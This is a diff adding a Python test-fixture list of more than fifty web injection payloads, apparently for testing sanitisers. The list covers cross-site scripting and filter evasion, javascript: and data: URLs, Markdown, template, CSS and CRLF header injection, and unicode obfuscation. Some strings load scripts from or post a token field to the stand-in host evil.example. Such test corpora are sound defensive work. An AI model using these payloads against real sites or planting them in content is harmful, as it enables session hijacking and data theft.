@@ -1,0 +1,75 @@
+"""Texts that would do something if a page took them for more than texts. `ran()` is what they try to call."""
+
+from __future__ import annotations
+
+PAYLOADS = [
+    # elements
+    "<script>ran()</script>",
+    "<ScRiPt >ran()</sCrIpT>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>import('//evil.example/x.js')</script>",
+    "<img src=x onerror=ran()>",
+    "<img src='x'onerror='ran()'//",
+    "<IMG \"\"\"><SCRIPT>ran()</SCRIPT>\">",
+    "<svg onload=ran()>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:ran()'><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
+    "<body onload=ran()><details open ontoggle=ran()>",
+    "<iframe src='javascript:parent.ran()'></iframe>",
+    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "<object data='data:text/html,<script>ran()</script>'></object><embed src=//evil.example/x>",
+    "<form action=//evil.example><input name=token><button autofocus>Approve</button></form>",
+    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css><style>*{background:url(//evil.example/s)}</style>",
+    "<video src=x onerror=ran()></video><audio src=x onerror=ran()></audio>",
+    "<input autofocus onfocus=ran()><select autofocus onfocus=ran()><textarea autofocus onfocus=ran()>",
+    "<template><script>ran()</script></template><noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    # out of what surrounds it
+    "\"><script>ran()</script>",
+    "'><img src=x onerror=ran()>",
+    "\" onmouseover=ran() autofocus onfocus=ran() x=\"",
+    "' onfocus='ran()' autofocus='",
+    "` onfocus=ran() autofocus `",
+    "x onclick=ran() style=position:fixed;inset:0",
+    "</textarea><script>ran()</script>",
+    "</title></style></script><script>ran()</script>",
+    "</pre></dd></dl></main></body><script>ran()</script>",
+    "--><script>ran()</script><!--",
+    "]]><script>ran()</script><![CDATA[",
+    "<!--><img src=x onerror=ran()>-->",
+    "\\\"-ran()-\\\"</script>';ran();//",
+    "{\"a\":\"</script><script>ran()</script>\"}",
+    # addresses
+    "javascript:ran()",
+    " \tjava\tscript:ran()",
+    "JaVaScRiPt://evil.example/%0aran()",
+    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
+    "vbscript:ran() view-source:x file:///etc/passwd blob:x",
+    "//evil.example/x /\\evil.example https:evil.example",
+    # Markdown
+    "[x](javascript:ran()) [y](<javascript:ran()>) ![z](javascript:ran())",
+    "[a]: javascript:ran() 'b'\n\n[a] <javascript:ran()> [x](data:text/html,<script>ran()</script>)",
+    "![x](https://evil.example/p.png\"onerror=\"ran()) ![](//evil.example/a.svg)",
+    "```html\n<script>ran()</script>\n``` <b onmouseover=ran()>",
+    "[x](https://evil.example/\" onmouseover=\"ran()) <https://evil.example/'onclick='ran()>",
+    # templates
+    "{{7*7}} {{ ran() }} {% raw %} {{config}} {{''.__class__}}",
+    "${7*7} #{7*7} <%= 7*7 %> %(name)s {0} {name} %s%n",
+    "{{constructor.constructor('ran()')()}} [[7*7]] v-html=ran()",
+    # styles
+    "x;background:url(javascript:ran());color:red",
+    "expression(ran()) red}body{display:none}",
+    "</style><style>@import '//evil.example/c.css';</style>",
+    # characters
+    "\u2028ran()\u2029\u0085//\ufeff",
+    "\u202eran()\u202c \u2066x\u2069 a\u200bb \u00ad",
+    "\ufe64script\ufe65ran()\ufe64/script\ufe65 ＜script＞ran()＜/script＞ ʺonfocus=ran()ʺ",
+    "%3Cscript%3Eran()%3C/script%3E &lt;script&gt;ran()&lt;/script&gt; &#60;script&#62; \\u003cscript\\u003e",
+    "%00%0d%0aSet-Cookie:a=b%0d%0a\\x00\\0 null undefined NaN",
+    "A" * 90 + "<img src=x onerror=ran()>",
+]  # fmt: skip
+assert len(PAYLOADS) >= 50
